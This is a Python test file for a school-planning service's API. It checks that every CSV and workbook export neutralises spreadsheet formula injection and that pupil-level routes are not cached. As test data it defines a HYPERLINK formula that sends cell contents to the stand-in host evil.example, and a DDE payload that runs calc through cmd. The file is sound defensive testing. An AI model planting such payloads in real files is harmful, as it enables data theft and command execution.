"""Every export of a run, over the service, hands a spreadsheet text and never a formula.

A dataset whose school and planning-area names are formulas goes through a full run with every report; then
every CSV answer the API documents (each results route with ``format=csv`` and every stage table), the run's
workbook and each report file are read back: user text is text (a CSV cell starting with = + - @ has a
leading quote unless it is a number), no workbook cell is a formula, and negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest

from sufficiency.app.store.testing import sqlite_url
from sufficiency.core.cells import FORMULA_START
from sufficiency.sample import sample_dir
from tests.api.conftest import World, make_world, wait_for

SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
AREA = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def hostile_files() -> list[tuple[str, tuple[str, bytes, str]]]:
    files = []
    for path in sorted(sample_dir().iterdir()):
        if not path.is_file() or path.suffix == ".md":
            continue
        data = path.read_bytes()
        if path.name == "schools.csv":  # every school's name a formula
            lines = data.decode("utf-8").splitlines()
            rows = list(csv.reader(lines))
            column = rows[0].index("name")
            for row in rows[1:]:
                row[column] = f"{SCHOOL} {row[0]}"
            out = io.StringIO()
            csv.writer(out, lineterminator="\n").writerows(rows)
            data = out.getvalue().encode("utf-8")
        elif path.name == "planning_areas.csv":
            rows = list(csv.reader(data.decode("utf-8").splitlines()))
            for row in rows[1:]:
                row[1] = f"{AREA} {row[0]}"
            out = io.StringIO()
            csv.writer(out, lineterminator="\n").writerows(rows)
            data = out.getvalue().encode("utf-8")
        files.append(("files", (path.name, data, "application/octet-stream")))
    return files


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[World, str]]:
    for world in make_world(sqlite_url(tmp_path_factory.mktemp("inert")), rate_limit_per_minute=100_000):
        uploaded = world.client.post("/datasets", headers=world.as_["admin"], files=hostile_files(),
                                     data={"name": "Hostile names"})
        assert uploaded.status_code == 201 and uploaded.json()["valid"], uploaded.text
        started = world.client.post("/runs", headers=world.as_["planner"], json={
            "dataset_id": uploaded.json()["id"], "kind": "full", "synthetic_pupils": True,
            "reports": ["scap", "xlsx"]})
        assert started.status_code == 202, started.text
        run = wait_for(world.client, started.json()["id"], world.as_["viewer"], seconds=600)
        assert run["status"] == "succeeded", run["error"]
        yield world, run["id"]


def assert_inert_csv(text: str, where: str) -> int:
    """No cell of the CSV starts a formula unless it is a number; the number of cells holding hostile text."""
    seen = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not (cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)), (where, cell)
            seen += cell.startswith(("'" + SCHOOL, "'" + AREA))
    return seen


def assert_inert_workbook(data: bytes, where: str) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                seen += isinstance(cell.value, str) and (SCHOOL in cell.value or AREA in cell.value)
    return seen


def _csv_routes(world: World) -> list[str]:
    schema = world.client.get("/openapi.json").json()
    return [path for path, item in schema["paths"].items() if "get" in item and "{run_id}" in path
            and "text/csv" in item["get"].get("responses", {}).get("200", {}).get("content", {})]


@pytest.mark.slow
def test_every_csv_answer_is_inert(hostile: tuple[World, str]) -> None:
    world, run_id = hostile
    routes = _csv_routes(world)
    assert len(routes) >= 8, routes
    seen = 0
    for path in routes:
        if "{stage}" in path or "{table}" in path:
            continue
        response = world.client.get(path.replace("{run_id}", run_id), params={"format": "csv"},
                                    headers=world.as_["admin"])
        if response.status_code != 200:  # a route whose stage made nothing for this run
            assert response.status_code in (404, 409), (path, response.text)
            continue
        seen += assert_inert_csv(response.text, path)
    stages = world.client.get(f"/runs/{run_id}", headers=world.as_["admin"]).json()["stages"]
    for stage in stages:
        section = world.client.get(f"/runs/{run_id}/stages/{stage}", headers=world.as_["admin"])
        assert section.status_code in (200, 404), section.text  # 404: the stage stored no table
        for table in section.json().get("tables", []):
            response = world.client.get(f"/runs/{run_id}/stages/{stage}/{table['name']}", params={"format": "csv"},
                                        headers=world.as_["admin"])
            assert response.status_code == 200, response.text
            seen += assert_inert_csv(response.text, f"{stage}/{table['name']}")
    assert seen > 0, "no CSV answer carried a school or planning-area name"


@pytest.mark.slow
def test_the_run_workbook_and_every_report_file_are_inert(hostile: tuple[World, str]) -> None:
    world, run_id = hostile
    workbook = world.client.get(f"/runs/{run_id}/report.xlsx", headers=world.as_["admin"])
    assert workbook.status_code == 200
    assert assert_inert_workbook(workbook.content, "report.xlsx") > 0
    files = world.client.get(f"/runs/{run_id}/files", headers=world.as_["admin"]).json()
    names = {f["name"] for f in files}
    assert any(n.endswith(".xlsx") for n in names) and any(n.endswith(".csv") for n in names), names
    seen = 0
    for name in sorted(names):
        data = world.client.get(f"/runs/{run_id}/files/{name}", headers=world.as_["admin"]).content
        if name.endswith(".xlsx"):
            seen += assert_inert_workbook(data, name)
        elif name.endswith(".csv"):
            seen += assert_inert_csv(data.decode("utf-8"), name)
        elif name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for member in archive.namelist():
                    if member.endswith(".csv"):
                        seen += assert_inert_csv(archive.read(member).decode("utf-8"), member)
                    elif member.endswith(".xlsx"):
                        seen += assert_inert_workbook(archive.read(member), member)
    assert seen > 0


@pytest.mark.slow
@pytest.mark.parametrize("route", ["/runs/{id}/post16", "/runs/{id}/stages/post16", "/runs/{id}/report.xlsx",
                                   "/runs/{id}/stages/post16/roni_ranked?format=csv",
                                   "/post16/runs/{id}/roni", "/post16/runs/{id}/roni?format=csv",
                                   "/admissions/runs/{id}/applications"])
def test_pupil_level_data_is_never_cached(hostile: tuple[World, str], route: str) -> None:
    """Item 8: the risk-of-NEET list, the workbook holding it and the admissions applications say no-store."""
    world, run_id = hostile
    response = world.client.get(route.replace("{id}", run_id), headers=world.as_["admin"])
    assert response.status_code in (200, 404), response.text[:200]  # 404: this dataset has no preferences
    assert response.headers.get("cache-control") == "no-store"
    if route.endswith("/post16"):
        assert "roni_ranked" in {t["name"] for t in response.json()["tables"]}  # the admin's section holds the list
